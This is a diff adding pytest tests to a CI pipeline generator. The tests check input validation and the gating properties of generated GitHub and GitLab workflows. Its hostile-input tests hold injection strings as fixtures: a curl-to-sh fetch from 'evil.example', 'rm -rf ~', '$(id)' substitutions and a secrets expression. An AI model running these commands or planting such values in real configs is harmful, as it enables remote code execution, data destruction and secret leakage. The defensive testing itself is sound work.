@@ -503,3 +503,105 @@ def test_the_plan_logs_in_to_the_registry_before_it_inspects_an_image():
     plan = plan_text(load_params(PARAMS / "shop-platform.yaml"), "shop-platform")
     assert "docker manifest inspect" in plan
     assert plan.index("docker login") < plan.index("docker manifest inspect")
+
+
+# ---------------------------------------------------------------- hostile input
+
+
+@pytest.mark.parametrize("field, value, path", [
+    ("default_branch", 'main"; curl -s evil.example | sh; "', "ci.default_branch"),
+    ("release_tag_pattern", "v*$(id)", "ci.release_tag_pattern"),
+    ("notify_channel", '#deploys\\", \\"text\\": \\"pwned', "ci.notify_channel"),
+    ("parameters_file", "parameters/x.yaml; rm -rf ~", "ci.parameters_file"),
+    ("canary_metrics_url", "http://prometheus:9090/$(id)", "ci.canary_metrics_url"),
+])
+def test_values_that_reach_ci_commands_are_validated(field, value, path, tmp_path):
+    with pytest.raises(InputError, match=re.escape(path) + ": "):
+        load_params(file_variant(tmp_path, "weather-api", lambda d: d["ci"].__setitem__(field, value)))
+
+
+def test_a_github_expression_in_a_url_is_refused(tmp_path):
+    def edit(d):
+        d["environments"][0]["url"] = "https://dev.example.com/${{ secrets.HEROKU_API_KEY }}"
+    with pytest.raises(InputError, match=r"environments\[0\]\.url: contains \$\{\{, which GitHub Actions would evaluate"):
+        load_params(file_variant(tmp_path, "weather-api", edit))
+
+
+def test_a_health_path_with_shell_syntax_stays_data(tmp_path):
+    params = load_params(PARAMS / "weather-api.yaml")
+    data = params.model_dump(mode="json", exclude_none=True)
+    data["services"][0]["health"]["path"] = "/health$(touch pwned);touch pwned2"
+    hostile = ProjectParams.model_validate(data, context={"base_dir": params.base_dir})
+    smoke = pipeline.build(hostile).environments[0].smoke_command
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / "curl").write_text('#!/bin/sh\nprintf \'{"status":"ok"}\' > .deploy/smoke-web.body; printf 200\n')
+    (bin_dir / "curl").chmod(0o755)
+    done = subprocess.run(["bash", "-e", "-c", smoke], cwd=tmp_path, env={"PATH": f"{bin_dir}:/usr/bin:/bin"}, capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr
+    assert not (tmp_path / "pwned").exists() and not (tmp_path / "pwned2").exists()
+
+
+# ---------------------------------------------------------------- generated projects
+
+ENV_SETS = {"all": None, "two": ["staging", "prod"], "prod": ["prod"]}
+SOURCES = {"pip": PINNED_PIP, "image": PINNED_IMAGE, "none": None}
+# platform × CI systems × environments × opslib source, every strategy of the platform each:
+# 81 projects; the suite builds every ninth (the full matrix: benchmarks/ci_matrix.py)
+FULL_MATRIX = [(n, s, e, o) for n in EXAMPLES for s in SYSTEM_SETS for e in ENV_SETS for o in SOURCES]
+MATRIX = FULL_MATRIX[::9]
+
+
+def generated(name: str, which: str, envs: str, source: str) -> ProjectParams:
+    params = variant(name, systems=SYSTEM_SETS[which], envs=ENV_SETS[envs])
+    data = params.model_dump(mode="json", exclude_none=True)
+    data["ci"].pop("opslib_source", None)
+    if SOURCES[source]:
+        data["ci"]["opslib_source"] = SOURCES[source]
+    moved = ProjectParams.model_validate(data, context={"base_dir": params.base_dir})
+    moved._path = params.path
+    return moved
+
+
+def gating_problems(p) -> list[str]:
+    """What a pipeline that gates must hold, as a list of what does not."""
+    out = [f"{v.path}: {v.errors[:2]}" for v in p.validations if not v.ok]
+    md = pipeline.render_pipeline(p)
+    out += [f"pipeline.md: {f.item}" for f in pipeline.check_pipeline_doc(md, environments=[e.name for e in p.environments], strict=True)
+            if f.status != "pass"]
+    for s in SYSTEM_SETS["both"]:
+        if s not in p.systems:
+            out += [f"{where} mentions {s}" for where, text in [("pipeline.md", md), *p.files.items()] if MENTIONS[s].search(text)]
+    for text in [md, *p.files.values()]:
+        if re.search(r"pip install [\"']?opslib(?![ @\w-])", text) or "read -r" in text:
+            out.append("unpinned opslib or a human wait")
+    names = [e.name for e in p.environments]
+    if p.github:
+        gh = jobs(p, ".github/workflows/deploy.yml")
+        out += [f"GitHub {n} needs {gh['jobs'][f'deploy-{n}']['needs']}" for b, n in zip(["build", *[f"deploy-{x}" for x in names]], names, strict=False)
+                if gh["jobs"][f"deploy-{n}"]["needs"] != [b]]
+        out += ["GitHub shell without pipefail"] * (gh["defaults"]["run"]["shell"] != "bash")
+        for n in names:
+            rb = [s for s in gh["jobs"][f"deploy-{n}"]["steps"] if s["name"].startswith("Roll back")]
+            out += [f"GitHub {n} rollback condition"] * any("steps.started.outcome == 'success'" not in s["if"] for s in rb)
+        out += ["GitHub cost-check without opslib_source"] * (("cost-check" in jobs(p, ".github/workflows/ci.yml")["jobs"]) != bool(p.opslib_source and p.budgets))
+    if p.gitlab:
+        gl = jobs(p, ".gitlab-ci.yml")
+        out += ["GitLab without pipefail"] * (gl["default"]["before_script"][0] != PIPEFAIL)
+        for b, n in zip([None, *names], names, strict=False):
+            if b and {"job": f"deploy-{b}", "artifacts": False} not in gl[f"deploy-{n}"]["needs"]:
+                out.append(f"GitLab {n} does not need deploy-{b}")
+            if not gl[f"rollback-{n}"]["script"][0].startswith("if [ ! -f .deploy/started ]"):
+                out.append(f"GitLab rollback-{n} does not check the start mark")
+    prod = p.environments[-1]
+    if p.strategy == "canary" and prod.canary:
+        out += [f"canary of {prod.canary.minutes} min in a {prod.timeout_minutes}-min job"] * (prod.timeout_minutes < prod.canary.minutes)
+    return out
+
+
+@pytest.mark.parametrize("name, which, envs, source", MATRIX)
+def test_generated_projects_gate(name, which, envs, source):
+    params = generated(name, which, envs, source)
+    for strategy in sorted(params.catalog.platform(params.platform).deploy):
+        p = pipeline.build(params, strategy=strategy)
+        assert gating_problems(p) == [], (strategy, gating_problems(p))
